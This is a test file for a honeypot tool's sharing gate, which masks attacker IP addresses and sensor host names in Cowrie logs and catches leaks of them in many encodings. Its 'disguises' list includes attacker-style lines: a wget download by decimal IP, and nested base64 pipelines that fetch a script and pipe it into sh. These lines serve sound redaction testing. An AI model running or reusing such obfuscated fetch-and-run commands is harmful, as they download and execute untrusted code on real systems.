// The gate finds an address or a name however it is spelled, and lets masked text pass.
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { maskText } from '../event/mask.ts';
import { importPaths } from '../observatory/import.ts';
import { openStore } from '../observatory/open.ts';
import { gate, hiddenHosts, knownIn, LeakError, masking } from './share.ts';

const folder = mkdtempSync(join(tmpdir(), 'kansatsuki-share-'));
const store = openStore(':memory:');
writeFileSync(
  join(folder, 'cowrie.json'),
  ['192.0.2.7', '2001:db8::7', '198.51.100.200']
    .map((src_ip, i) =>
      JSON.stringify({
        eventid: 'cowrie.session.connect',
        src_ip,
        session: `${i}`.repeat(12),
        sensor: 's',
        timestamp: '2026-05-02T10:00:00.000000Z',
      }),
    )
    .join('\n'),
);
await importPaths(store, [join(folder, 'cowrie.json')]);
const options = { style: 'circles' as const, hosts: ['trap-7.example.net'] };

const b64 = (text: string) => Buffer.from(text).toString('base64');
/** 192.0.2.7 and 2001:db8::7 as attackers and editors write them. */
const disguises = [
  'wget http://3221225991/x',
  'ping 3221225991',
  'http://0xC0000207/',
  'http://0300.0.2.7/',
  'http://0xc0.0.0x2.7/',
  'http://192.519/',
  '192.0.2.7_22',
  String.raw`printf "a\n192.0.2.7"`,
  'x192.0.2.7',
  '192. 0. 2. 7',
  '192 0 2 7',
  '192_0_2_7',
  '192(.)0(.)2(.)7',
  '192[dot]0[dot]2[dot]7',
  '１９２.０.２.７',
  '192。0。2。7',
  '192.0.\u200b2.7',
  String.raw`192.0.\u{200b}2.7`,
  '::ffff:192.0.2.7',
  '::ffff:c000:207',
  '0:0:0:0:0:ffff:c000:0207',
  '2001:0db8:0000:0000:0000:0000:0000:0007',
  '2001:db8:0:0::7',
  '[2001:db8::7%eth0]',
  '%31%39%32.0.2.7',
  'http://%31%39%32%2e%30%2e%32%2e%37/',
  String.raw`echo -e "\x31\x39\x32\x2e\x30\x2e\x32\x2e\x37"`,
  String.raw`printf '\061\071\062\056\060\056\062\056\067'`,
  '3139322e302e322e37',
  '&#x31;&#57;2.0.2.7',
  `echo ${b64('wget http://192.0.2.7/x.sh')} | base64 -d | sh`,
  `echo ${b64(`echo ${b64('curl 192.0.2.7')}|base64 -d|sh`)}|base64 -d|sh`,
  b64('ssh root@trap-7.example.net'),
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ5P4Tn1hJZ9mQ4l9u0v8nZ6mU3jv4Y2yq7m8Zr1x5aB',
];

test('what masking gives, of any disguise and in any style, passes the gate', () => {
  for (const style of ['circles', 'network', 'alias'] as const)
    for (const text of ['on trap-7.example.net', 'hxxp://192.0.2[.]7/x', 'ec2-192-0-2-7.compute', ...disguises]) {
      const mask = { ...options, style, key: 'k', known: knownIn(store) };
      const masked = maskText(text, mask);
      // What no program reads as an address is not masked, but it is not let through either.
      if (UNREAD.test(text)) continue;
      gate(masked, store, mask);
      assert.equal(maskText(masked, mask), masked, `not the same when masked again: ${text}`);
    }
});
const UNREAD = /^192(?:\. 0|\[dot\]| 0|_0|\(\.\)|。)|u\{200b\}/;

test('one attacker keeps one alias, however the address is spelled', () => {
  const mask = { ...options, style: 'alias' as const, key: 'k', known: knownIn(store) };
  const alias = maskText('192.0.2.7', mask);
  assert.match(alias, /^host-[0-9a-f]{8}$/);
  for (const text of ['::ffff:192.0.2.7', '::ffff:c000:207', '3221225991', '0xC0000207', '0300.0.2.7'])
    assert.equal(maskText(text, mask), alias, text);
  assert.equal(maskText('2001:0DB8:0::7', mask), maskText('2001:db8::7', mask));
  assert.notEqual(maskText('198.51.100.200', mask), alias);
});

test('ids of sessions, hashes, times, versions and counts are no addresses', () => {
  for (const text of [
    '"session": "4bf5946999a6"',
    '"session": "30539227"',
    'a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2',
    '2018-05-08T13:26:23.553110Z',
    'SSH-2.0-OpenSSH_6.7p1 Raspbian-5+deb8u4',
    '1,234,567 of 12345678',
    'chmod 0777 /tmp/x; dd bs=1048576 count=10',
  ]) {
    assert.equal(maskText(text, { ...options, known: knownIn(store) }), text);
    gate(text, store, options);
  }
});

test('leaks are found', () => {
  for (const text of [
    'from 192.0.2.7.',
    'hxxp://192.0.2[.]7/x',
    'ec2-192-0-2-7.compute',
    '[2001:db8::7]:22',
    '2001:DB8::7',
    '<td>192.0.2.7</td>',
    '192.0.2&#46;7',
    'on Trap-7.example.net',
    ...disguises,
  ])
    assert.throws(() => gate(text, store, options), LeakError, text);
});

test('masked text, other addresses and versions pass', () => {
  for (const text of [
    '○○○.○○○.○○○.○○○',
    '192.0.2.0/24',
    '1.192.0.2.7',
    'v192.0.2.70',
    '3221225990',
    'OpenSSH_9.2p1',
    '10:00:00',
    'trap-70.example.net',
  ])
    gate(text, store, options);
});

test('ordinary words are no host names to hide', () => {
  assert.deepEqual(hiddenHosts(['debian', 'Trap-7', 'pi', 'trap-7', '', '○○○', 'localhost']), ['trap-7']);
});

test('the key of aliases is made once, for its owner only', () => {
  const first = masking('alias', folder, []);
  const file = join(folder, 'state/mask.key');
  assert.equal(statSync(file).mode & 0o777, 0o600);
  assert.deepEqual(masking('alias', folder, []).key, first.key);
  assert.equal(masking('circles', join(folder, 'none'), []).key, undefined);
  assert.ok(!existsSync(join(folder, 'none')));
  rmSync(folder, { recursive: true });
});
